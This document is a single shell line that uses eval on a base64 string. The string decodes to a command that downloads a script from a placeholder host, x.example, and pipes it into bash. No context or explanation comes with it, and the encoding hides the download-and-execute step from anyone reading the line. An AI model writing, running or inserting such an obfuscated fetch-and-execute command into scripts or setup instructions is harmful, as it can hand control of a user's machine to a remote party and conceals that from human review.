eval "$(echo Y3VybCAtZnNTTCBodHRwczovL3guZXhhbXBsZS9pIHwgYmFzaA== | base64 --decode)"
